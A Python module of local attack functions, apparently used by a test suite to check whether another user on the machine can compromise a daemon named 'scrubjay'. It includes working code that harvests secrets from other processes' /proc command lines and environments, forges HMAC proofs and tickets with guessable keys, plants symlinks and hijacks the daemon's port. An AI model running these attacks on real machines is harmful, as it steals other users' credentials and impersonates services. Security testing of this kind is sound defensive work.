"""What another user of this machine runs: read from standard input by a Python of his, with his uid alone.

Needs nothing but the standard library, and can import nothing of ours. Each attack is a function here; it prints what
it got hold of as JSON. `main` is called with the attack's name and its arguments.
"""

import hashlib
import hmac
import http.client
import json
import os
import re
import signal
import socket
import sys
import time
from functools import partial
from pathlib import Path
from typing import Any

PROC = Path("/proc")
SECRET = re.compile(r"ticket=([A-Za-z0-9_.-]+)|(sj_[A-Za-z0-9_-]{43})|\b([A-Za-z0-9_-]{43})\b|\b([0-9a-f]{64})\b")


def ask(
    port: int, method: str, path: str, body: object = None, headers: dict[str, str] | None = None
) -> tuple[int, Any]:
    """One request, with whatever headers one likes: no browser keeps this user from anything."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    sent = dict(headers or {})
    content = None if method == "GET" else json.dumps({} if body is None else body)
    if method == "POST":
        sent["Content-Type"] = "application/json"
    try:
        connection.request(method, path, content if method == "POST" else None, sent)
        reply = connection.getresponse()
        text = reply.read().decode()
        return reply.status, json.loads(text) if text.startswith(("{", "[")) else text
    finally:
        connection.close()


def secrets_in(text: str) -> list[str]:
    """All that looks like a ticket, a token, a cookie or a key."""
    return [next(filter(None, found)) for found in SECRET.findall(text)]


# --- what lies in the open


def watch_processes(seconds: float, mark: str) -> dict[str, Any]:
    """Every command line and environment on the machine, over and over, until `mark` was seen for a while."""
    seen: set[str] = set()
    environments: set[str] = set()
    end = time.monotonic() + seconds
    looks = 0
    while time.monotonic() < end:
        for process in PROC.iterdir():
            if process.name.isdecimal() and int(process.name) != os.getpid():
                for file, kept in (("cmdline", seen), ("environ", environments)):
                    try:
                        kept.add((process / file).read_bytes().replace(b"\0", b" ").decode("utf-8", "replace"))
                    except OSError:
                        continue
        if any(mark in line for line in seen):
            end = min(end, time.monotonic() + 0.5)
        if not looks:
            print("there", flush=True)
        looks += 1
        time.sleep(0.01)  # a program takes longer to start
    concerned = [line for line in seen if mark in line]
    return {
        "seen": concerned,
        "secrets": [secret for line in concerned for secret in secrets_in(line)],
        "environments": [line for line in environments if "SCRUBJAY" in line],
    }


def read_everything_below(folder: str) -> list[str]:
    """Every file below a folder that can be read, and every folder that can be listed but the first."""
    got: list[str] = []
    for place, folders, files in os.walk(folder):
        got += [str(Path(place) / name) for name in folders if os.access(Path(place) / name, os.R_OK | os.X_OK)]
        for name in files:
            try:
                (Path(place) / name).read_bytes()
            except OSError:
                continue
            got.append(str(Path(place) / name))
    return got


def read_known(files: list[str]) -> list[str]:
    """Files whose places everybody knows."""
    got: list[str] = []
    for file in files:
        try:
            Path(file).read_bytes()
        except OSError:
            continue
        got.append(file)
    return got


def plant(files: list[str]) -> list[str]:
    """Put files, links and folders where the user's are, or will be."""
    got: list[str] = []
    for file in files:
        path = Path(file)
        for act in (partial(path.write_bytes, b"planted"), partial(path.symlink_to, "/tmp"), path.unlink):
            try:
                act()
            except OSError:
                continue
            got.append(file)
    return got


def look_into_memory(pid: int) -> list[str]:
    """The daemon's memory, files and folder."""
    got: list[str] = []
    for name in ("mem", "maps", "environ", "fd", "cwd", "root"):
        try:
            if name in ("cwd", "root"):
                (PROC / str(pid) / name).readlink()
            elif name == "fd":
                list((PROC / str(pid) / name).iterdir())
            else:
                (PROC / str(pid) / name).read_bytes()
        except OSError:
            continue
        got.append(name)
    return got


def other_doors(pid: int) -> list[str]:
    """Sockets that processes of the daemon's user listen on, beside its one port."""
    uid = (PROC / str(pid)).stat().st_uid
    got: list[str] = []
    for table in ("tcp", "tcp6"):
        for line in (PROC / "net" / table).read_text().splitlines()[1:]:
            fields = line.split()
            address, _, port = fields[1].partition(":")
            if fields[3] == "0A" and int(fields[7]) == uid:
                got.append(f"{address}:{int(port, 16)}")
    return got


# --- the port


def knock(port: int, requests: list[list[Any]]) -> list[list[Any]]:
    """Requests one after another; what was answered."""
    return [list(ask(port, *request)) for request in requests]


def prove_with_bad_keys(port: int) -> list[str]:
    """Pair by a proof made with keys that a full disk or a careless program might have left."""
    got: list[str] = []
    for key in (b"", b"\0" * 64, b"0" * 64, b"\n", b"pairing.key"):
        _, begun = ask(port, "POST", "/v1/pairing", {"client": "Stranger"})
        proof = hmac.new(key, begun["id"].encode(), hashlib.sha256).hexdigest()
        status, _ = ask(port, "POST", f"/v1/pairing/{begun['id']}/proof", {"proof": proof})
        _, collected = ask(port, "POST", f"/v1/pairing/{begun['id']}/collect", {"secret": begun["secret"]})
        got += [repr(key)] if status == 200 or collected.get("token") else []
    return got


def make_tickets(port: int) -> list[str]:
    """Tickets as the page file makes them, with secrets that anybody could think of."""
    got: list[str] = []
    for secret in ("", "0" * 64, "scrubjay", "@SECRET@"):
        said = f"{time.time() * 1000:.0f}.{'0' * 32}"
        ticket = f"{said}.{hmac.new(secret.encode(), said.encode(), hashlib.sha256).hexdigest()}"
        status, _ = ask(port, "POST", "/v1/session", {"ticket": ticket})
        got += [secret] if status == 201 else []
    return got


def flood_pairing(port: int, times: int) -> int:
    """Ask to be let in, over and over; how often that was taken."""
    return sum(ask(port, "POST", "/v1/pairing", {"client": f"Flood {n}"})[0] == 201 for n in range(times))


def take_the_port(port: int, seconds: float) -> list[str]:
    """Bind the port that the daemon has left, and answer every request with 200, until SIGTERM; what was said."""
    told: list[int] = []
    signal.signal(signal.SIGTERM, lambda number, _: told.append(number))
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    end = time.monotonic() + seconds
    while True:
        try:
            listener.bind(("127.0.0.1", port))
            break
        except OSError:
            if time.monotonic() > end:
                raise
            time.sleep(0.02)
    listener.listen()
    listener.settimeout(0.2)
    print("there", flush=True)
    heard: list[str] = []
    while not told and time.monotonic() < end:
        try:
            visitor, _ = listener.accept()
        except TimeoutError:
            continue
        with visitor:
            visitor.settimeout(2)
            said = visitor.recv(65_536).decode("latin-1")
            heard.append(said)
            proof = hmac.new(b"", said.encode("latin-1"), hashlib.sha256).hexdigest()
            body = json.dumps({"name": "scrubjay", "version": "1", "instance": "0" * 16, "proof": proof, "results": []})
            visitor.sendall(
                f"HTTP/1.1 200 OK\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n{body}".encode()
            )
    return heard


def main(name: str, arguments: dict[str, Any]) -> None:
    """Run the attack of this name and print what it got."""
    print(json.dumps(globals()[name](**arguments)))


if __name__ == "__main__":
    main(sys.argv[1], json.loads(sys.argv[2]))
